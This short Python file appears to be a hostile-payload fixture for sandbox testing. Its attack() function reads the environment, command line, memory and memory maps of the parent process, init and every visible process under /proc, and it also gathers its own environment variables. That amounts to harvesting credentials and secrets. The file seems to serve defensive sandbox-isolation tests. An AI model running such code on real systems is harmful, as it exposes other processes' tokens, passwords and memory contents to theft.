# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Read the environment and command line of every visible process, the parent's first."""

import os


def attack():
    seen = {}
    pids = [str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for name in ("environ", "cmdline", "mem", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    seen[f"{pid}/{name}"] = handle.read(4096).decode(errors="replace")
            except OSError:
                pass
    seen["own_environ"] = dict(os.environ)
    return seen
